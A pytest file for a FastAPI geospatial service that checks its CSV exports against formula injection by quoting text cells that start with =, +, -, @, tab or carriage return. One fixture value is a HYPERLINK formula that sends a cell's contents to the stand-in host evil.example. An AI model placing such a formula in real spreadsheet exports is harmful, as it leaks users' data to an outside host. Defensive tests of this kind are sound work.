"""CSV exports never hand a spreadsheet a formula (OWASP, CSV injection): a text cell that
begins with =, +, -, @, a tab or a carriage return gets a leading single quote; numbers stay
numbers. Every CSV the service writes is checked: items, priorities, districts."""

import csv
import io

import pytest
from fastapi.testclient import TestClient
from shapely import box
from sqlalchemy import text
from sqlalchemy.orm import Session

from app.core.spreadsheet import cell
from tests.api.test_stats_geometry import WEST, add_district, add_zone

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
SUM = "+SUM(1,2)"
AT = "@cmd"
MINUS = "-2+3"


def rows(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body)))


@pytest.fixture
def hostile(session: Session) -> dict[str, int]:
    """A district named with a formula and a zone in it whose code and source are formulas."""
    district = add_district(session, WEST, name=LINK)
    zone = add_zone(session, box(0.1, -29.9, 0.2, -29.8))
    session.execute(
        text("UPDATE contaminated_zones SET code = :code, source = :source WHERE id = :id"),
        {"code": SUM, "source": AT, "id": zone},
    )
    return {"district": district, "zone": zone}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (LINK, "'" + LINK),
        (SUM, "'" + SUM),
        (MINUS, "'" + MINUS),
        (AT, "'" + AT),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ağdam", "Ağdam"),
        ("", ""),
        (-3.5, -3.5),
        (-7, -7),
        (None, None),
    ],
)
def test_a_cell_is_neutralised_only_when_it_is_text_that_starts_a_formula(
    value: object, expected: object
) -> None:
    assert cell(value) == expected


def test_items_csv(client: TestClient, hostile: dict[str, int]) -> None:
    response = client.get(
        "/collections/contaminated_zones/items",
        params={"f": "csv", "bbox": "0,-30,0.5,-29.5", "properties": "code,source"},
    )
    assert response.status_code == 200, response.text
    (header, row) = rows(response.text)
    assert header == ["id", "code", "source", "geometry"]
    assert row[:3] == [str(hostile["zone"]), "'" + SUM, "'" + AT]
    assert row[3].startswith("MULTIPOLYGON")


def test_priorities_csv(client: TestClient, hostile: dict[str, int]) -> None:
    response = client.get(
        "/stats/priorities",
        params={"f": "csv", "district": hostile["district"], "as_of": "2025-01-01"},
    )
    assert response.status_code == 200, response.text
    header, row = rows(response.text)
    line = dict(zip(header, row, strict=True))
    assert line["code"] == "'" + SUM
    assert line["district"] == "'" + LINK
    assert line["rank"] == "1" and float(line["area_km2"]) > 0  # numbers stay numbers


def test_districts_csv(client: TestClient, hostile: dict[str, int]) -> None:
    response = client.get("/stats/districts", params={"f": "csv", "as_of": "2025-01-01"})
    assert response.status_code == 200, response.text
    header, *table = rows(response.text)
    named = [dict(zip(header, row, strict=True)) for row in table if LINK in "".join(row)]
    assert len(named) == 1
    assert named[0]["name"] == "'" + LINK
    assert float(named[0]["area_km2"]) > 0  # numbers stay numbers
